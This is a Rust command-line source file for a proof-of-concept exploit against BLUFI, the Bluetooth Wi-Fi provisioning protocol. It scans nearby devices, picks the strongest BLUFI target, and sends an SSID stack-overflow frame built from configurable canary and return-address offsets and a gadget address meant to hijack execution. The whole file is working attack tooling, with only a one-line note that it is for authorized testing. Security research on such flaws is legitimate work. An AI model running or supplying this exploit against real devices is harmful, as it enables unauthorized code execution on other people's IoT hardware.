//! BLUFI SSID overflow proof-of-concept CLI
//!
//! Scans for BLUFI-capable devices and drives the scripted overflow
//! attack against the strongest target. Only point this at hardware you
//! own or are authorized to test.

use std::time::Duration;

use blufi_exploit::payload::{
    DEFAULT_CANARY_OFFSET, DEFAULT_RETURN_ADDR_OFFSET, DEFAULT_TOTAL_LEN,
};
use blufi_exploit::{AttackConfig, AttackDriver, OverflowLayout, scan};
use btleplug::api::Manager as _;
use btleplug::platform::Manager;
use clap::{Parser, Subcommand};

#[derive(Parser)]
#[command(name = "blufi-cli")]
#[command(about = "BLUFI SSID stack-overflow proof of concept")]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Scan for BLUFI-capable devices
    Scan {
        /// Scan duration in seconds
        #[arg(short, long, default_value = "5")]
        duration: u64,
    },
    /// Run the overflow attack against the strongest target
    Exploit {
        /// Scan duration in seconds
        #[arg(long, default_value = "15")]
        scan_duration: u64,
        /// Connect timeout in seconds
        #[arg(long, default_value = "10")]
        connect_timeout: u64,
        /// Observation window after the overflow frame, in seconds
        #[arg(long, default_value = "20")]
        observe: u64,
        /// Byte offset of the stack canary in the receive buffer
        #[arg(long, default_value_t = DEFAULT_CANARY_OFFSET)]
        canary_offset: usize,
        /// Byte offset of the saved return address
        #[arg(long, default_value_t = DEFAULT_RETURN_ADDR_OFFSET)]
        ra_offset: usize,
        /// Canary word as hex, optional 0x prefix
        #[arg(long, value_parser = parse_hex32, default_value = "0xdeadbeef")]
        canary: u32,
        /// Gadget address to plant in the return slot, as hex
        #[arg(long, value_parser = parse_hex32, default_value = "0x400d970d")]
        gadget: u32,
        /// Total overflow buffer length in bytes
        #[arg(long, default_value_t = DEFAULT_TOTAL_LEN)]
        total_length: usize,
    },
}

fn parse_hex32(s: &str) -> Result<u32, String> {
    let digits = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")).unwrap_or(s);
    u32::from_str_radix(digits, 16).map_err(|e| e.to_string())
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    env_logger::init();
    let cli = Cli::parse();

    match cli.command {
        Commands::Scan { duration } => {
            scan_devices(duration).await?;
        }
        Commands::Exploit {
            scan_duration,
            connect_timeout,
            observe,
            canary_offset,
            ra_offset,
            canary,
            gadget,
            total_length,
        } => {
            let config = AttackConfig {
                scan_duration: Duration::from_secs(scan_duration),
                connect_timeout: Duration::from_secs(connect_timeout),
                observe_window: Duration::from_secs(observe),
                layout: OverflowLayout {
                    offset_to_canary: canary_offset,
                    offset_to_return_addr: ra_offset,
                    canary,
                    gadget_addr: gadget,
                    total_len: total_length,
                    ..OverflowLayout::default()
                },
                ..AttackConfig::default()
            };
            // Reject a bad geometry before touching the radio.
            config.layout.validate()?;

            let mut driver = AttackDriver::new(config);
            driver.run().await?;
            println!("Attack sequence complete. Check the target for overflow effects.");
        }
    }

    Ok(())
}

async fn scan_devices(duration: u64) -> Result<(), Box<dyn std::error::Error>> {
    let manager = Manager::new().await?;
    let adapters = manager.adapters().await?;
    let adapter = adapters
        .into_iter()
        .next()
        .ok_or("No Bluetooth adapter found")?;

    println!("Scanning for BLUFI devices ({} seconds)...", duration);
    let (_, devices) = scan::scan_devices(&adapter, Duration::from_secs(duration)).await?;

    println!("\nFound {} devices:", devices.len());
    for device in &devices {
        let marker = if scan::is_candidate(&device.name) {
            " [BLUFI]"
        } else {
            ""
        };
        println!(
            "  {} ({}) RSSI: {}{}",
            device.name,
            device.address,
            device.rssi_display(),
            marker
        );
    }

    Ok(())
}
